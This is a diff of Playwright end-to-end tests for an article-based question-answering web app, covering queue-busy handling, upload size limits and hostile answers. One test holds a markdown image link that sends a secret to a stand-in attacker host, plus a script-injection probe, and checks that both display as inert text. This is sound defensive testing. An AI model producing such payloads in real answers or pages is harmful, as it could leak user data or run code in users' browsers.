@@ -125,12 +125,35 @@ def test_upload_ask_about_it_reject_and_remove(open_page, app_url, tmp_path, tim
     page.wait_for_function("() => document.querySelector('#index-info').innerText.includes('1 article ')")
 
 
-def test_a_hostile_answer_stays_inert(open_page, hostile_app_url):
-    page, watch = open_page(hostile_app_url)
+def test_a_hostile_answer_stays_inert(open_page, fake_app):
+    page, watch = open_page(fake_app(HOSTILE + " [1]"))
     result = ask(page, "Who led the US delegation at the Geneva talks?")
     assert "![chart](http://evil.example/leak?q=secret)" in result["answer"]  # shown as text
     assert "<script>window.pwned=1</script>" in result["answer"]
     assert_inert(page, watch)
+
+
+def test_a_full_queue_says_busy_and_keeps_the_question(open_page, fake_app):
+    url = fake_app("Wendy Sherman led it [1]. " * 10, delay=0.2, queue_size=1)  # ~10 s per answer
+    pages = [open_page(url)[0] for _ in range(3)]  # one answering, one waiting, one too many
+    for page in pages:
+        page.fill("#question textarea", "Who led the US delegation?")
+        page.keyboard.press("Enter")
+        page.wait_for_timeout(400)
+    last = pages[-1]
+    last.wait_for_function("() => document.body.innerText.includes('currently busy. Please try again')")
+    assert last.input_value("#question textarea") == "Who led the US delegation?"  # ready to send again
+    assert last.locator('#chat [data-testid="user"]').count() == 0
+
+
+def test_an_oversized_upload_is_refused(open_page, app_url, tmp_path):
+    page, _ = open_page(app_url)
+    big = tmp_path / "big.txt"
+    big.write_text("word " * (11 * 1024 * 1024 // 5), encoding="utf-8")  # 11 MB; the limit is 10 MB
+    page.click("#articles button, #articles .label-wrap")
+    page.set_input_files("#upload input[type=file]", [str(big)])
+    page.wait_for_function("() => document.body.innerText.includes('exceed the maximum allowed size')")
+    assert "1 article " in page.inner_text("#index-info")
 
 
 def test_mobile_width_and_example_questions(open_page, app_url, timings):
